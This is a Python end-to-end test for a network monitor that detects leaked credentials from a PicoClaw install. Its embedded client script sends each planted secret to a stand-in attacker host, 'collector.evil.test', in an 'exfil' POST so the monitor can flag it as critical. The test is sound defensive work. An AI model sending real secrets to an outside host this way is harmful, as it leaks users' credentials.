"""A current PicoClaw install through the live monitor (issue 23): the real mitmdump started by
scripts/start.py, real clients (urllib, websockets) as the scoped child, local upstreams on
127.0.0.1, and a full v3 home (picoclaw_v3_home.py).

PicoClaw's normal calls must reach their real host names, so the monitor and its child run
in a private mount namespace (`unshare -rm`) whose /etc/hosts maps every one of those names
to 127.0.0.1; nothing outside the test sees that file. HTTP goes to one local server, every
websocket to another, whatever the name.

Acceptance: every owner's normal calls (its host, path and auth location; websocket frames
where the channel uses them) give no finding above info, and the expected-use counters name
every owner that sends a secret; the same secrets sent to another host each give one
critical known_secret naming the owner; no planted value appears anywhere.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import sys
import threading
from collections import Counter
from pathlib import Path

import pytest

from canary import assert_no_leak
from conftest import SCRIPTS
from local_servers import UPSTREAMS_ARE_PUBLIC, free_port, serving
from picoclaw_v3_home import write_v3_home

pytestmark = pytest.mark.e2e

COLLECTOR = "collector.evil.test"
ABOVE_INFO = ("low", "medium", "high", "critical")


def hosts_namespace_available() -> str | None:
    """None when `unshare -rm` can bind-mount a hosts file here; else why not."""
    if shutil.which("unshare") is None:
        return "unshare (util-linux) is not installed"
    probe = subprocess.run(["unshare", "-rm", "sh", "-c", "mount --bind /etc/hostname /etc/hosts"],
                           capture_output=True, timeout=30)
    return None if probe.returncode == 0 else f"no private mount namespace: {probe.stderr.decode()[-200:]}"


class Answer(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_args):  # quiet: URLs carry planted secrets
        pass

    def _answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b'{"ok":true}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _answer  # noqa: N815 - http.server's hook names


class QuietServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        pass


CLIENT = r'''
import json, subprocess, sys, time, urllib.request
from urllib.parse import urlsplit
from websockets.sync.client import connect
calls_file, leaks_file, http_port, ws_port, status_script, status_out = sys.argv[1:7]
proxy = __import__("os").environ["http_proxy"]
opener = urllib.request.build_opener(urllib.request.ProxyHandler())

def local(url, port, scheme):
    parts = urlsplit(url)
    return f"{scheme}://{parts.hostname}:{port}{parts.path or '/'}" + (f"?{parts.query}" if parts.query else "")

def http(method, url, headers, body):
    data = body.encode() if body is not None else None
    request = urllib.request.Request(local(url, http_port, "http"), data=data, headers=headers, method=method)
    opener.open(request, timeout=30).read()

for call in json.load(open(calls_file)):
    if call["frames"] is None:
        http(call["method"], call["url"], call["headers"], call["body"])
    else:
        with connect(local(call["url"], ws_port, "ws"), proxy=proxy, additional_headers=call["headers"],
                     open_timeout=30) as socket:
            for frame in call["frames"]:
                socket.send(frame)
            socket.recv(timeout=30)
# the counters while the monitor runs: wait (bounded) until every sending owner shows up
wanted = set(json.load(open(leaks_file))["sending"])
deadline = time.monotonic() + 60
while True:
    report = json.loads(subprocess.run([sys.executable, status_script, "--json"], capture_output=True,
                                       timeout=30).stdout)
    used = {k.removeprefix("known:") for k in report.get("expected_credential_uses") or {}}
    if wanted <= used or time.monotonic() > deadline:
        break
    time.sleep(0.5)
human = subprocess.run([sys.executable, status_script], capture_output=True, timeout=30)
json.dump({"json": report, "human": human.stdout.decode() + human.stderr.decode()}, open(status_out, "w"))
for value in json.load(open(leaks_file))["values"]:
    http("POST", "https://collector.evil.test/c", {"Content-Type": "text/plain"}, f"exfil {value} end")
'''


def websocket_consumer(connection) -> None:
    for _message in connection:
        connection.send("ok")


def test_live_v3_install_normal_calls_are_quiet_and_every_secret_elsewhere_is_critical(guardian_env, tmp_path):
    reason = hosts_namespace_available()
    if reason:
        pytest.skip(reason)
    from websockets.sync.server import serve

    v3 = write_v3_home(Path(guardian_env["PICOCLAW_HOME"]))
    env = {**guardian_env, **v3.env}
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 localhost\n" + "".join(f"127.0.0.1 {h}\n" for h in sorted({*v3.hosts, COLLECTOR})))
    sending = sorted({owner for value, owner in v3.owners.items()
                      if any(value in json.dumps(call.to_dict()) for call in v3.calls)})
    (tmp_path / "calls.json").write_text(json.dumps([call.to_dict() for call in v3.calls]))
    (tmp_path / "leaks.json").write_text(json.dumps({"values": v3.values, "sending": sending}))
    (tmp_path / "client.py").write_text(CLIENT)
    config = tmp_path / "guardian.json"
    config.write_text(json.dumps({"listen_port": free_port(), "dedup_window_secs": 0, **UPSTREAMS_ARE_PUBLIC}))
    status_out = tmp_path / "status.json"

    websocket = serve(websocket_consumer, "127.0.0.1", 0)
    threading.Thread(target=websocket.serve_forever, daemon=True).start()
    with serving(QuietServer(("127.0.0.1", 0), Answer)) as upstream:
        command = ["unshare", "-rm", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts),
                   sys.executable, str(SCRIPTS / "start.py"), "--config", str(config), "--",
                   sys.executable, str(tmp_path / "client.py"), str(tmp_path / "calls.json"),
                   str(tmp_path / "leaks.json"), str(upstream.server_address[1]),
                   str(websocket.socket.getsockname()[1]), str(SCRIPTS / "status.py"), str(status_out)]
        try:
            run = subprocess.run(command, env=env, capture_output=True, timeout=300)
        finally:
            subprocess.run([sys.executable, str(SCRIPTS / "stop.py")], env=env, capture_output=True, timeout=60)
            websocket.shutdown()
    assert run.returncode == 0, run.stderr.decode(errors="replace")[-3000:]

    home = Path(guardian_env["PICOCLAW_TRAFFIC_GUARDIAN_HOME"])
    log = home / "logs" / "findings.jsonl"
    findings = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    normal = [(f["pattern"], f["severity"], f["dest"], f["location"]) for f in findings
              if not f["dest"].startswith(COLLECTOR) and f["severity"] in ABOVE_INFO]
    assert normal == []
    status = json.loads(status_out.read_text())
    used = {key.removeprefix("known:") for key in status["json"]["expected_credential_uses"]}
    assert set(sending) <= used, sorted(set(sending) - used)
    known = status["json"]["known_secrets"]
    assert known["config_version"] == 3 and known["unwatchable"] == []  # the enc:// value opened
    assert {p["owner"]: p["route"] for p in known["coverage"]}["channel:irc"] == "bypass"
    assert "  egress bypass: channel:mqtt -> broker.example.net (channel_list.mqtt)" in status["human"]
    leaked = Counter(f["secret_owner"] for f in findings
                     if f["pattern"] == "known_secret" and f["dest"].startswith(COLLECTOR))
    assert all(f["severity"] == "critical" for f in findings if f["pattern"] == "known_secret")
    assert leaked == Counter(v3.owners.values())
    assert_no_leak(v3.values, home=home, outputs=[run.stdout, run.stderr, status_out.read_bytes()])
